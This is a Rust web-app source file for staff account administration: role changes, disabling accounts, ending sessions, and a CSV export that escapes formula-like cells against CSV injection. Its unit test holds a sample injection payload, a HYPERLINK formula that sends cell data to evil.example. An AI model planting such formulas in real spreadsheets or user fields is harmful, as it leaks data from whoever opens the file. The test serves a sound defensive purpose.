//! Staff accounts on the web and the API: administrators and auditors see who holds which role and
//! which tokens (and export it); administrators change roles and disable or enable accounts.

use actix_web::http::{StatusCode, header};
use actix_web::{HttpResponse, web};
use askama::Template;
use serde::Deserialize;

use super::csrf::{Button, Csrf, CsrfForm};
use super::error::{ApiError, PageError, WebError};
use super::outcome::{self, Back};
use super::session::{Administer, ApiStaff, Authorized, ReadStaff};
use super::{redirect, render};
use crate::app::AppState;
use crate::app::accounts::{self, AccountChange, StaffAccount};
use crate::app::staff::StaffMember;
use crate::domain::FieldErrors;
use crate::domain::code::Code;
use crate::domain::ids::StaffId;
use crate::domain::staff::Role;
use crate::i18n::Tr;

#[derive(Template)]
#[template(path = "pages/staff/people.html")]
pub struct PeoplePage {
    pub tr: Tr,
    pub csrf: String,
    pub staff: StaffMember,
    pub accounts: Vec<StaffAccount>,
    pub problem: Option<String>,
}

impl PeoplePage {
    pub fn is_admin(&self) -> bool {
        self.staff.role == Role::Admin
    }

    pub fn roles(&self) -> Vec<Role> {
        Role::ALL.to_vec()
    }

    pub fn role_name(&self, role: impl std::borrow::Borrow<Role>) -> String {
        self.tr.t(&format!("role-{}", role.borrow().as_str()))
    }

    pub fn time(&self, t: &chrono::DateTime<chrono::Utc>) -> String {
        self.tr.time(t)
    }
}

async fn page(
    state: &AppState,
    staff: StaffMember,
    tr: Tr,
    csrf: &Csrf,
    status: StatusCode,
    problem: Option<String>,
) -> Result<HttpResponse, PageError> {
    let accounts = accounts::list(state).await?;
    render(
        status,
        &PeoplePage {
            tr,
            csrf: csrf.token(),
            staff,
            accounts,
            problem,
        },
    )
}

/// The page again after a refused change, saying why (with `Retry-After` when a wait refused it).
pub(super) async fn shown_again(
    state: &AppState,
    staff: StaffMember,
    tr: Tr,
    csrf: &Csrf,
    back: &Back,
    problem: String,
) -> Result<HttpResponse, PageError> {
    let rendered = page(state, staff, tr, csrf, back.status(), Some(problem)).await;
    outcome::with_retry_after(rendered, back.retry_after())
}

pub async fn show(
    state: web::Data<AppState>,
    who: Authorized<ReadStaff>,
    tr: Tr,
    csrf: Csrf,
) -> Result<HttpResponse, PageError> {
    page(&state, who.staff, tr, &csrf, StatusCode::OK, None).await
}

#[derive(Deserialize)]
pub struct RoleForm {
    #[serde(default)]
    role: String,
}

fn parse_role(raw: &str) -> Result<Role, FieldErrors> {
    raw.parse().map_err(|_| {
        let mut errors = FieldErrors::new();
        errors.push("role", "unknown_role");
        errors
    })
}

/// The change, or the page again saying why not.
async fn apply<T>(
    state: &AppState,
    who: Authorized<Administer>,
    tr: Tr,
    id: web::Path<StaffId>,
    CsrfForm { fresh, csrf, .. }: CsrfForm<T>,
    change: Result<AccountChange, FieldErrors>,
) -> Result<HttpResponse, PageError> {
    let call = async {
        let change = change.map_err(crate::app::AppError::Invalid)?;
        accounts::change(state, who.staff.actor(), id.into_inner(), change).await
    };
    match outcome::of(fresh, call).await? {
        Ok(()) => Ok(redirect("/staff/people")),
        Err(back) => {
            let problem = match &back {
                Back::Invalid(errors) => errors.iter().next().map(|e| tr.field_error(e.code)),
                _ => back.summary(tr),
            };
            page(state, who.staff, tr, &csrf, back.status(), problem).await
        }
    }
}

pub async fn change_role(
    state: web::Data<AppState>,
    who: Authorized<Administer>,
    tr: Tr,
    id: web::Path<StaffId>,
    form: CsrfForm<RoleForm>,
) -> Result<HttpResponse, PageError> {
    let change = parse_role(&form.input.role).map(AccountChange::Role);
    apply(&state, who, tr, id, form, change).await
}

pub async fn disable(
    state: web::Data<AppState>,
    who: Authorized<Administer>,
    tr: Tr,
    id: web::Path<StaffId>,
    form: CsrfForm<Button>,
) -> Result<HttpResponse, PageError> {
    apply(&state, who, tr, id, form, Ok(AccountChange::Disable)).await
}

pub async fn enable(
    state: web::Data<AppState>,
    who: Authorized<Administer>,
    tr: Tr,
    id: web::Path<StaffId>,
    form: CsrfForm<Button>,
) -> Result<HttpResponse, PageError> {
    apply(&state, who, tr, id, form, Ok(AccountChange::Enable)).await
}

pub async fn end_sessions(
    state: web::Data<AppState>,
    who: Authorized<Administer>,
    tr: Tr,
    id: web::Path<StaffId>,
    form: CsrfForm<Button>,
) -> Result<HttpResponse, PageError> {
    apply(&state, who, tr, id, form, Ok(AccountChange::EndSessions)).await
}

/// An administrator ends every staff session but their own.
pub async fn end_every_session(
    state: web::Data<AppState>,
    who: Authorized<Administer>,
    tr: Tr,
    form: CsrfForm<Button>,
) -> Result<HttpResponse, PageError> {
    let call =
        accounts::end_every_session(&state, who.staff.actor(), Some(who.session_token.clone()));
    match outcome::of(form.fresh, call).await? {
        Ok(_) => Ok(redirect("/staff/people")),
        Err(back) => {
            let problem = back.summary(tr);
            page(&state, who.staff, tr, &form.csrf, back.status(), problem).await
        }
    }
}

/// Who holds which role and which tokens, as CSV: one line per token (or per account without one).
pub async fn export(
    state: web::Data<AppState>,
    _who: Authorized<ReadStaff>,
) -> Result<HttpResponse, PageError> {
    let accounts = accounts::list(&state).await?;
    let csv = staff_csv(&accounts).map_err(|e| WebError::Render(e.to_string()))?;
    Ok(HttpResponse::Ok()
        .content_type("text/csv; charset=utf-8")
        .insert_header((header::CACHE_CONTROL, "no-store"))
        .insert_header((
            header::CONTENT_DISPOSITION,
            "attachment; filename=\"kaiji-staff.csv\"",
        ))
        .body(csv))
}

fn staff_csv(accounts: &[StaffAccount]) -> Result<Vec<u8>, csv::Error> {
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record([
        "email",
        "name",
        "role",
        "disabled_at",
        "created_at",
        "live_sessions",
        "token_id",
        "token_label",
        "token_created_at",
        "token_last_used_at",
        "token_revoked_at",
    ])?;
    let t =
        |d: &Option<chrono::DateTime<chrono::Utc>>| d.map(|d| d.to_rfc3339()).unwrap_or_default();
    for a in accounts {
        let account = [
            text_cell(&a.email),
            text_cell(&a.name),
            a.role.as_str().to_owned(),
            t(&a.disabled_at),
            a.created_at.to_rfc3339(),
            a.live_sessions.to_string(),
        ];
        if a.tokens.is_empty() {
            w.write_record(
                account
                    .iter()
                    .cloned()
                    .chain(std::iter::repeat_n(String::new(), 5)),
            )?;
        }
        for k in &a.tokens {
            let token = [
                k.id.clone(),
                text_cell(&k.label),
                k.created_at.to_rfc3339(),
                t(&k.last_used_at),
                t(&k.revoked_at),
            ];
            w.write_record(account.iter().cloned().chain(token))?;
        }
    }
    w.into_inner().map_err(|e| e.into_error().into())
}

/// A typed cell as a spreadsheet should show it: one that begins as a formula would (`=`, `+`, `-`, `@`,
/// a tab or a carriage return) gets a leading apostrophe, so a name or token label someone chose cannot
/// run as a formula on the administrator's machine when the file is opened (OWASP, "CSV Injection").
fn text_cell(typed: &str) -> String {
    if typed.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{typed}")
    } else {
        typed.to_owned()
    }
}

/// Every staff account with its role, live sessions and tokens (never their values).
#[utoipa::path(
    get, path = "/api/v1/staff", tag = "staff",
    operation_id = "listStaff",
    description = "Who holds which role and which API tokens (administrators and auditors), by address; tokens are listed, never their values",
    responses(
        (status = 200, description = "Every staff account", body = Vec<StaffAccount>, example = json!([{
            "id": "0197a3c2-b182-7f06-8a71-8c9d0e1f2a3b", "email": "officer@example.com", "name": "佐藤 花子",
            "role": "officer", "created_at": "2026-01-05T02:30:00.000000Z", "disabled_at": null, "live_sessions": 1,
            "mfa_enrolled": true,
            "tokens": [{"id": "0197a3c2-c293-7007-9b82-9d0e1f2a3b4c", "label": "ticketing", "created_at": "2026-01-06T01:00:00Z", "last_used_at": "2026-03-01T08:15:00Z", "revoked_at": null}]
        }])),
    ),
    security(("bearer" = []))
)]
pub async fn list_api(
    state: web::Data<AppState>,
    _who: ApiStaff<ReadStaff>,
) -> Result<HttpResponse, ApiError> {
    Ok(HttpResponse::Ok().json(accounts::list(&state).await?))
}

/// The role a member is to hold.
#[derive(Deserialize, utoipa::ToSchema)]
#[serde(deny_unknown_fields)]
pub struct RoleBody {
    /// `officer`, `auditor`, `admin` or `system_owner`.
    #[schema(schema_with = role_schema)]
    role: String,
}

/// `role`: one of the roles' codes.
fn role_schema() -> utoipa::openapi::RefOr<utoipa::openapi::schema::Schema> {
    use utoipa::openapi::schema::{ObjectBuilder, Type};
    ObjectBuilder::new()
        .schema_type(Type::String)
        .enum_values(Some(Role::codes()))
        .description(Some("`officer`, `auditor`, `admin` or `system_owner`"))
        .examples(["auditor"])
        .into()
}

/// An administrator changes a member's role (audited; the last administrator stays one).
#[utoipa::path(
    post, path = "/api/v1/staff/{id}/role", tag = "staff",
    operation_id = "setStaffRole",
    description = "Change a member's role (administrators); the last active administrator stays one; audited (`staff.role_changed`, unless the role is the one held)",
    params(("id" = String, Path, description = "The staff member's id", example = "01a24b65-6589-741e-938c-6ca05bdc30b9")),
    request_body(
        content = RoleBody,
        description = "The new role",
        example = json!({"role": "auditor"})
    ),
    responses(
        (status = 204, description = "Changed (or already held)"),
        (status = 404, description = "`not_found`: no staff account has this id", body = super::error::ErrorBody),
        (status = 422, description = "`validation_failed`: `role` `unknown_role`, or `last_admin` (the last active administrator cannot be given another role)", body = super::error::ErrorBody),
    ),
    security(("bearer" = []))
)]
pub async fn role_api(
    state: web::Data<AppState>,
    who: ApiStaff<Administer>,
    id: web::Path<StaffId>,
    body: super::body::ApiJson<RoleBody>,
) -> Result<HttpResponse, ApiError> {
    let role = parse_role(&body.parse()?.role).map_err(crate::app::AppError::Invalid)?;
    changed(&state, who, id, AccountChange::Role(role)).await
}

/// The API's answer to an account change: 204, or the JSON error.
async fn changed(
    state: &AppState,
    who: ApiStaff<Administer>,
    id: web::Path<StaffId>,
    change: AccountChange,
) -> Result<HttpResponse, ApiError> {
    accounts::change(state, who.staff.actor(), id.into_inner(), change).await?;
    Ok(HttpResponse::NoContent().finish())
}

/// An administrator disables an account: its sessions end and its tokens are revoked at once.
#[utoipa::path(
    post, path = "/api/v1/staff/{id}/disable", tag = "staff",
    operation_id = "disableStaff",
    description = "Disable an account (administrators): its sessions end and its API tokens are revoked at once; audited (`staff.disabled`, unless it was disabled already)",
    params(("id" = String, Path, description = "The staff member's id", example = "01a24b65-6589-741e-938c-6ca05bdc30b9")),
    responses(
        (status = 204, description = "Disabled (or was already)"),
        (status = 404, description = "`not_found`: no staff account has this id", body = super::error::ErrorBody),
        (status = 422, description = "`validation_failed`: `account` `last_admin` (the last active administrator cannot be disabled)", body = super::error::ErrorBody),
    ),
    security(("bearer" = []))
)]
pub async fn disable_api(
    state: web::Data<AppState>,
    who: ApiStaff<Administer>,
    id: web::Path<StaffId>,
) -> Result<HttpResponse, ApiError> {
    changed(&state, who, id, AccountChange::Disable).await
}

/// An administrator ends every session of a member (a lost laptop); the account stays as it is.
#[utoipa::path(
    post, path = "/api/v1/staff/{id}/sessions/end", tag = "staff",
    operation_id = "endStaffSessions",
    description = "End every browser session of a member (administrators), a lost laptop; the account and its API tokens stay; audited (`staff.sessions_ended`)",
    params(("id" = String, Path, description = "The staff member's id", example = "01a24b65-6589-741e-938c-6ca05bdc30b9")),
    responses(
        (status = 204, description = "Ended"),
        (status = 404, description = "`not_found`: no staff account has this id", body = super::error::ErrorBody),
    ),
    security(("bearer" = []))
)]
pub async fn end_sessions_api(
    state: web::Data<AppState>,
    who: ApiStaff<Administer>,
    id: web::Path<StaffId>,
) -> Result<HttpResponse, ApiError> {
    changed(&state, who, id, AccountChange::EndSessions).await
}

/// An administrator ends every staff session at once (API tokens stay); answers how many ended.
#[utoipa::path(
    post, path = "/api/v1/staff/sessions/end", tag = "staff",
    operation_id = "endEveryStaffSession",
    description = "End every staff browser session at once (administrators): a stolen database copy, a compromised laptop nobody can name; API tokens stay (revoke them one by one); audited (`staff.all_sessions_ended`)",
    responses(
        (status = 200, description = "Ended: how many", body = SessionsEnded, example = json!({"sessions_ended": 7})),
    ),
    security(("bearer" = []))
)]
pub async fn end_every_session_api(
    state: web::Data<AppState>,
    who: ApiStaff<Administer>,
) -> Result<HttpResponse, ApiError> {
    let ended = accounts::end_every_session(&state, who.staff.actor(), None).await?;
    Ok(HttpResponse::Ok().json(SessionsEnded {
        sessions_ended: ended,
    }))
}

/// How many sessions ended.
#[derive(Debug, serde::Serialize, utoipa::ToSchema)]
pub struct SessionsEnded {
    /// The browser sessions ended.
    pub sessions_ended: usize,
}

/// An administrator enables a disabled account (its old sessions and tokens stay ended).
#[utoipa::path(
    post, path = "/api/v1/staff/{id}/enable", tag = "staff",
    operation_id = "enableStaff",
    description = "Enable a disabled account (administrators); its old sessions and API tokens stay ended; audited (`staff.enabled`, unless it was enabled already)",
    params(("id" = String, Path, description = "The staff member's id", example = "01a24b65-6589-741e-938c-6ca05bdc30b9")),
    responses(
        (status = 204, description = "Enabled (or was already)"),
        (status = 404, description = "`not_found`: no staff account has this id", body = super::error::ErrorBody),
    ),
    security(("bearer" = []))
)]
pub async fn enable_api(
    state: web::Data<AppState>,
    who: ApiStaff<Administer>,
    id: web::Path<StaffId>,
) -> Result<HttpResponse, ApiError> {
    changed(&state, who, id, AccountChange::Enable).await
}

#[cfg(test)]
mod tests {
    use chrono::TimeZone;

    use super::*;
    use crate::app::accounts::TokenHeld;

    #[test]
    fn a_name_or_label_that_reads_as_a_formula_is_written_as_text() {
        let at = chrono::Utc.with_ymd_and_hms(2026, 12, 7, 0, 0, 0).unwrap();
        let account = StaffAccount {
            id: "0197a3c2-b182-7f06-8a71-8c9d0e1f2a3b".into(),
            email: "officer@example.com".into(),
            name: "=HYPERLINK(\"https://evil.example/?\"&A1)".into(),
            role: Role::Officer,
            created_at: at,
            disabled_at: None,
            live_sessions: 0,
            mfa_enrolled: false,
            tokens: vec![TokenHeld {
                id: "t-1".into(),
                label: "@SUM(1+1)".into(),
                created_at: at,
                last_used_at: None,
                revoked_at: None,
            }],
        };
        let csv = String::from_utf8(staff_csv(&[account]).unwrap()).unwrap();
        let row = csv.lines().nth(1).unwrap();
        assert!(
            row.starts_with(
                "officer@example.com,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1)\",officer,"
            ),
            "{row}"
        );
        assert!(row.contains(",t-1,'@SUM(1+1),"), "{row}");
        for plain in ["佐藤 花子", "a-b", "ticketing"] {
            assert_eq!(text_cell(plain), plain);
        }
        for formula in ["-1+1", "+1", "\t=1", "\r=1"] {
            assert_eq!(text_cell(formula), format!("'{formula}"));
        }
    }
}
